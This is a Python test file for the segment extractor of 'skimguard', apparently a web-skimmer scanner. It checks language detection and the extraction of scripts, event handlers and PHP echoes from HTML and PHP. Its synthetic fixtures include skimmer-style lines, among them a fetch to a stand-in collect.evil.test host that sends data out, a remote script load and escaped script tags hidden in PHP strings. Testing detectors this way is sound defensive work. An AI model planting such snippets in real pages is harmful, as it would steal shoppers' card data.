"""Tests of segment extraction (skimguard.analyze.extract). All pages here are synthetic."""

from __future__ import annotations

import random
import re
import time

import pytest

from skimguard.analyze import extract as extract_module
from skimguard.analyze.extract import (
    MAX_ANALYZE_CHARS,
    MAX_SEGMENTS,
    _echo_pieces,
    detect_language,
    extract_segments,
    offset_to_line_col,
    segment_position,
)
from skimguard.analyze.model import Language, Segment
from skimguard.analyze.normalize import PhpKind, php_tokens

JS, HTML, PHP, TEXT = Language.JS, Language.HTML, Language.PHP, Language.TEXT


def rows(segments: list[Segment]) -> list[tuple[Language, str, int, int, str]]:
    return [(s.language, s.origin, s.line, s.column, s.text) for s in segments]


def located(text: str, segments: list[Segment]) -> None:
    """Every verbatim segment really starts where it says."""
    for s in segments:
        if s.origin in ("file", "php-echo") or s.language is HTML:
            continue
        line, column = s.line, s.column
        lines = text.split("\n")
        assert lines[line - 1][column - 1 :].startswith(s.text.split("\n")[0])


# --- language detection ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "head", "expected"),
    [
        ("app/checkout.js", b"<?php echo 1;", JS),
        ("lib/x.MJS", b"", JS),
        ("a.cjs", b"", JS),
        ("page.html", b"<p>hi</p>", HTML),
        ("page.htm", b"", HTML),
        ("tpl/cart.html.twig", b"{{ x }}", HTML),
        ("t.tpl", b"", HTML),
        ("t.liquid", b"", HTML),
        ("t.hbs", b"", HTML),
        ("t.mustache", b"", HTML),
        ("index.html", b"<html><?php echo $x; ?>", PHP),
        ("Mage.php", b"", PHP),
        ("old.php5", b"", PHP),
        ("view.phtml", b"<div>", PHP),
        ("Shell.phP", b"", PHP),
        ("config.inc", b"<?php $a = 1;", PHP),
        ("config.inc", b"plain words", TEXT),
        ("site/.htaccess", b"<?php", TEXT),
        (".user.ini", b"auto_prepend_file=x", TEXT),
        ("style.css", b"body{}", TEXT),
        ("-", b"<?php eval($x);", PHP),
        ("-", b"\xef\xbb\xbf<!DOCTYPE html><title>x</title>", HTML),
        ("-", b"var a = document.cookie;", JS),
        ("-", b"Dear customer, thank you.", TEXT),
        ("payload.txt", b"<script>steal()</script>", HTML),
        ("noext", b"(function(){ window.x = 1 })()", JS),
        ("noext", b"\xff\xfe garbage \x00", TEXT),
    ],
)
def test_detect_language(path: str, head: bytes, expected: Language) -> None:
    assert detect_language(path, head) is expected


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        # JavaScript that names a tag in a string stays JavaScript (issue 4)
        (b"var tpl = '<script src=\"x.js\"></script>'; document.write(tpl);", JS),
        (b"el.innerHTML = '<script src=//evil.test/x.js></script>'; window.y = 2;", JS),
        (b"/* load with <script src=lib.js></script> */\n(function(){ window.lib = {} })()", JS),
        # markup first, after white space and comments
        (b"  <!-- cached -->\n<div id=x><script>a()</script>", HTML),
        (b"\n<form action=/pay><input name=cc></form><script>var a = 1;</script>", HTML),
        # the structure of a document, wherever the text starts
        (b'a:2:{s:7:"content";s:9:"<!DOCTYPE html><html>', HTML),
        (b"window.x = 1;\n<html>\n<body>", HTML),
        (b'x = "<html><body>hi</body></html>"; window.open()', HTML),
        # markup without any code cue around it is a page fragment
        (b"Thanks!\n<script>steal()</script>", HTML),
        # markup that is not HTML
        (b"<Files *.jpg>\nForceType application/x-httpd-php\n</Files>", TEXT),
        (b'<?xml version="1.0"?><package><name>x</name></package>', TEXT),
    ],
)
def test_sniffing_a_file_without_extension(head: bytes, expected: Language) -> None:
    assert detect_language("cache/noext", head) is expected


# --- positions -------------------------------------------------------------------------------


def test_offset_to_line_col_and_segment_position() -> None:
    text = "ab\ncd\n\nef"
    assert [offset_to_line_col(text, i) for i in (0, 1, 2, 3, 6, 7, 8, 99, -5)] == [
        (1, 1), (1, 2), (1, 3), (2, 1), (3, 1), (4, 1), (4, 2), (4, 3), (1, 1),
    ]  # fmt: skip
    seg = Segment(JS, "x=1;\n  y();", line=3, column=9, origin="script")
    assert segment_position(seg, 0) == (3, 9)
    assert segment_position(seg, 3) == (3, 12)
    assert segment_position(seg, 7) == (4, 3)
    assert segment_position(seg, 500) == (4, 7)  # clamped to the end of the text


# --- HTML ------------------------------------------------------------------------------------

PAGE = """<!doctype html>
<html><head>
<script>var a = 1;</script>
<script type="application/ld+json">{"a": 1}</script>
<script type="text/x-magento-init">{"*": {}}</script>
<script type="module">
import x from "./x.js";</script>
<SCRIPT TYPE="text/javascript; charset=utf-8">b()</SCRIPT >
</head>
<body onload="init()">
<a href="javascript:void(steal())">x</a> <a href="JavaScript&#58;alert(1)">y</a>
<a href="java\tscript:go(%22q%22)">z</a> <a href="/ok">ok</a>
<!-- <script>commented()</script> <a onclick="no()"> -->
<form action="https://pay.psp.test/" onsubmit='return send(this)'><input name=cc onfocus=f()></form>
<textarea><script>not_code()</script></textarea><style>p{}</style>
<img src=x onerror="a(&quot;b&quot;)"><script src="/x.js"></script>
</body></html>"""


def test_html_segments_exact() -> None:
    segs = extract_segments(PAGE, HTML)
    assert rows(segs) == [
        (HTML, "file", 1, 1, PAGE),
        (JS, "script", 3, 9, "var a = 1;"),
        (JS, "script", 6, 23, '\nimport x from "./x.js";'),
        (JS, "script", 8, 47, "b()"),
        (JS, "handler:onload", 10, 15, "init()"),
        (JS, "javascript-url", 11, 21, "void(steal())"),
        (JS, "javascript-url", 11, 51, "alert(1)"),
        (JS, "javascript-url", 12, 10, 'go("q")'),
        (JS, "handler:onsubmit", 14, 48, "return send(this)"),
        (JS, "handler:onfocus", 14, 90, "f()"),
        (JS, "handler:onerror", 16, 21, 'a("b")'),
    ]
    located(PAGE, segs[1:6] + segs[8:10])  # the others were decoded (entities, %XX, a tab)
    # a hit in the module script's second line maps back to the file
    module = segs[2]
    assert segment_position(module, module.text.index("x.js")) == (7, 18)
    assert PAGE.split("\n")[6][17:21] == "x.js"


def test_broken_html() -> None:
    broken = "<div <p onclick='a()'>\n<script>unclosed(); <b>\n</body>"
    assert rows(extract_segments(broken, HTML)) == [
        (HTML, "file", 1, 1, broken),
        (JS, "handler:onclick", 1, 18, "a()"),
        (JS, "script", 2, 9, "unclosed(); <b>\n</body>"),
    ]
    # the text ends inside a tag or a quoted value: the tag is dropped, like a browser does
    assert rows(extract_segments("<p>x</p><a onclick='b()", HTML)) == [(HTML, "file", 1, 1, "<p>x</p><a onclick='b()")]
    assert rows(extract_segments("<script>ok()</script><a onclick=c()", HTML))[1:] == [(JS, "script", 1, 9, "ok()")]
    assert extract_segments("", HTML) == [Segment(HTML, "", 1, 1, "file")]
    assert extract_segments("", JS) == []


def test_js_and_text_are_one_segment() -> None:
    assert rows(extract_segments("a();\nb();", JS)) == [(JS, "file", 1, 1, "a();\nb();")]
    assert rows(extract_segments("RewriteRule x", TEXT)) == [(TEXT, "file", 1, 1, "RewriteRule x")]


# --- PHP -------------------------------------------------------------------------------------

PHP_FILE = """<html><body>
<?php if ($x) { ?>
<script>var cc = '<?= $cc ?>';</script>
<?php } echo '<script>fetch("https://collect.evil.test/" + d)</script>'; $s = "function() { go(); }"; ?>
<p onclick="go()">x</p>
<?php // comment ?> after
<?php $h = '<form action="x">' . "<input onchange=\\"k()\\">" . '</form>'; $q = 'it?>s';"""


def test_php_segments_exact() -> None:
    segs = extract_segments(PHP_FILE, PHP)
    blanked = PHP_FILE.split("\n")
    outside = "\n".join(
        [
            blanked[0],
            " " * 18,
            "<script>var cc = '" + " " * 10 + "';</script>",
            " " * len(blanked[3]),
            blanked[4],
            " " * 19 + " after",
            " " * len(blanked[6]),
        ]
    )
    assert rows(segs) == [
        (HTML, "file", 1, 1, outside),
        (PHP, "php", 2, 1, "<?php if ($x) { ?>"),
        (JS, "script", 3, 9, "var cc = '          ';"),
        (PHP, "php", 3, 19, "<?= $cc ?>"),
        (PHP, "php", 4, 1, blanked[3]),
        (HTML, "php-echo", 4, 15, '<script>fetch("https://collect.evil.test/" + d)</script>'),
        (JS, "php-echo", 4, 15, 'fetch("https://collect.evil.test/" + d)'),
        (JS, "php-echo", 4, 80, "function() { go(); }"),
        (JS, "handler:onclick", 5, 13, "go()"),
        (PHP, "php", 6, 1, "<?php // comment ?>"),
        (PHP, "php", 7, 1, blanked[6]),
        (HTML, "php-echo", 7, 13, '<form action="x"><input onchange="k()"></form>'),
        (JS, "php-echo", 7, 13, "k()"),
    ]
    located(PHP_FILE, [s for s in segs if s.language is PHP])
    located(outside, [s for s in segs if s.origin in ("script", "handler:onclick")])


def test_php_only_file_and_heredoc_echo() -> None:
    code = "<?php\n$js = <<<JS\n  <script>new Image().src = 'x';</script>\n  JS;\necho $js;\n"
    assert rows(extract_segments(code, PHP)) == [
        (PHP, "php", 1, 1, code),
        (HTML, "php-echo", 2, 7, "<script>new Image().src = 'x';</script>"),
        (JS, "php-echo", 2, 7, "new Image().src = 'x';"),
    ]
    # escapes are decoded before looking for markup
    hidden = '<?php echo "\\x3cscript\\x3esteal()\\x3c/script\\x3e";'
    assert [s.text for s in extract_segments(hidden, PHP) if s.language is JS] == ["steal()"]


def _reference_php_blocks(text: str) -> list[tuple[int, int]]:
    """PHP block spans by the normalizer's tokenizer (the extractor scans without it)."""
    blocks: list[tuple[int, int]] = []
    start = -1
    for t in php_tokens(text, coarse=True):
        if t.kind is PhpKind.OPEN:
            start = t.offset
        elif t.kind in (PhpKind.CLOSE, PhpKind.EOF) and start >= 0:
            blocks.append((start, t.offset + 2 if t.kind is PhpKind.CLOSE else len(text)))
            start = -1
    return blocks


def _reference_echo_values(text: str) -> list[str]:
    """What every literal the tokenizer finds would print (the extractor looks at fewer)."""
    return [
        p.text for t in php_tokens(text, coarse=True) if t.kind is PhpKind.STR for p in _echo_pieces(t.text, t.offset)
    ]


_FRAGMENTS = (
    "<?php ", "<?= ", "<? ", "?>", "?>\n", "?>\r\n", "'a?>b'", '"x?>y"', "'it\\'s'", '"q\\"?>"', "// c ?> ", "# c ?> ",
    "#[Attr] ", "/* ?> */", "/* open ", "\n", " ", ";", "{", "}", "$x", "echo ", "`ls ?>`", "<<<EOT\n?> EOT\nEOT;\n",
    "<<<'N'\n'?>\nN;\n", "<<<X", "<", "<<", "'<scr' . 'ipt>go()</scr' . 'ipt>'", '"<iframe src=x>"',
    "'function f() {}'", '"\\x3cscript\\x3eok()\\x3c/script\\x3e"', "<b onclick=\"h()\">", "<script>s()</script>",
    "'", '"', "?", "/",
)  # fmt: skip


def test_php_blocks_and_literals_match_the_tokenizer() -> None:
    rng = random.Random(7)
    for _ in range(3000):
        text = "".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 14)))
        segs = extract_segments(text, PHP)
        lines = text.split("\n")
        offsets = [sum(len(x) + 1 for x in lines[: s.line - 1]) + s.column - 1 for s in segs if s.origin == "php"]
        blocks = [(o, o + len(s.text)) for o, s in zip(offsets, [s for s in segs if s.origin == "php"], strict=True)]
        assert blocks == _reference_php_blocks(text), text
        echoed = [s.text for s in segs if s.origin == "php-echo"]
        assert sorted(echoed) == sorted(_reference_echo_values(text)), text


# --- bounds ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("<script" * 300_000, HTML),
        ("<?php " * 350_000, PHP),
        ("<?php\n" + "'a'." * 520_000, PHP),
        ('<a href="' * 250_000, HTML),
        ("<a b=" * 420_000, HTML),
        ("<!--" * 520_000, HTML),
        ("<script>" * 260_000, PHP),
        ("<? " * 700_000, PHP),
        ("<?php\n" + "<<<A\n" * 420_000, PHP),
        ("<?php\n" + "'\\" * 1_000_000, PHP),
        ("<?php\n" + "'a' . " * 350_000, PHP),
        ("<?php\n" + "#?" * 1_000_000, PHP),
        ("<?php\n" + "'<script' . " * 200_000, PHP),
        ("<?php\n" + '"\\x41' * 500_000, PHP),
        ("<?php ?>" * 260_000, PHP),
    ],
)
def test_pathological_inputs_are_linear(text: str, language: Language) -> None:
    assert len(text) >= 2_000_000
    start = time.perf_counter()
    segs = extract_segments(text, language)
    assert time.perf_counter() - start < 2.0
    assert 1 <= len(segs) <= MAX_SEGMENTS


def test_size_and_count_limits() -> None:
    many = "<a onclick=x()>" * (MAX_SEGMENTS + 100)
    segs = extract_segments(many, HTML)
    assert len(segs) == MAX_SEGMENTS
    assert segs[0].origin == "file" and segs[-1].origin == "handler:onclick"
    blocks = "<?= 1 ?>" * 300_000
    assert len(extract_segments(blocks, PHP)) == MAX_SEGMENTS
    huge = "a" * (MAX_ANALYZE_CHARS + 10) + "<script>late()</script>"
    segs = extract_segments(huge, HTML)
    assert [s.origin for s in segs] == ["file"]
    assert len(segs[0].text) == MAX_ANALYZE_CHARS


# --- the C skip of markup that holds no code ----------------------------------------------------


_HTML_BITS = (
    "<", ">", "a", "div", "on", "onclick", "ONload", "=", '"', "'", " ", "\t", "\n", "/", "href", "src",
    "javascript:", "java\tscript:", "JaVa\nScRiPt:", "&#106;", "&amp;", ":", "script", "SCRIPT", "style",
    "title", "plaintext", "textarea", "\u00e9", "\u212a", "%", "<!--", "-->", "<!", "<?", "</", "x()", "<a ", "<div ",
    "<script>", "</script>", "alert(1)",
)  # fmt: skip


def test_skipping_markup_in_c_finds_the_same_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    rng = random.Random(17)
    texts = ["".join(rng.choice(_HTML_BITS) for _ in range(rng.randint(0, 30))) for _ in range(4000)]
    texts += [
        "<a href=\"x\" class='y' title=z>" * 3 + "<b onclick=go()>t</b>",
        '<p a=b"c>d',
        "<p a='b>c'>d",
        "<div class=x><p>t<img src=x onerror=z()></div>",
        "<svg/onload=q()>",
        "<a title='x'onclick=w()>",
        "<a HREF=JavaScript:alert(1)>",
        "<a href='java\tscript:x()'>",
        "<a href='java&#x09;script:x()'>",
        "<a href=java&#x09;script:x()>",
        "<!-- <a onclick=x()> --><b onclick=y()>",
        "<textarea><a onclick=x()></textarea><i onclick=z()>",
        '<b title="a>b" onclick=y()>',
        "<script>go()</script><p>",
    ]
    fast = [extract_segments(text, HTML) for text in texts]
    monkeypatch.setattr(extract_module, "_HTML_SKIP", re.compile(""))  # the scanner looks at every "<"
    assert fast == [extract_segments(text, HTML) for text in texts]
    assert sum(len(segments) > 1 for segments in fast) > 400  # handlers, scripts and URLs were found


@pytest.mark.parametrize(
    "comment",
    ["/**/", "/*/ x */", "/* a **/", "/* ?> */", "/* a * b / c */", "/*** x ***/", "/* unterminated *", "/* x"],
)
def test_php_block_comments_end_at_their_first_close(comment: str) -> None:
    # the possessive comment branch of the PHP skip ends where a lazy `/\*[\s\S]*?(?:\*/|\Z)` does
    lazy = re.compile(r"/\*[\s\S]*?(?:\*/|\Z)")
    text = f"<?php {comment} echo 1; ?>\n<p>x</p>"
    end = lazy.match(text, 6).end()  # type: ignore[union-attr]
    assert extract_module._PHP_SKIP.match(text, 6).end() >= end  # type: ignore[union-attr]
    block = next(s for s in extract_segments(text, Language.PHP) if s.origin == "php")
    closed = text.find("?>", end)
    assert block.text == (text[: closed + 2] if closed >= 0 else text)


def test_echoed_literals_are_remembered_and_placed_where_each_one_is() -> None:
    echo = 'echo \'<input name="cc" onchange="send(this.value)">\';'
    text = f"<?php {echo} ?>\n<?php\n  {echo} ?>\n"
    segments = [s for s in extract_segments(text, Language.PHP) if s.origin == "php-echo"]
    assert [(s.language, s.line, s.column) for s in segments] == [
        (Language.HTML, 1, 13),
        (Language.JS, 1, 13),
        (Language.HTML, 3, 9),
        (Language.JS, 3, 9),
    ]
    assert segments[1].text == segments[3].text == "send(this.value)"
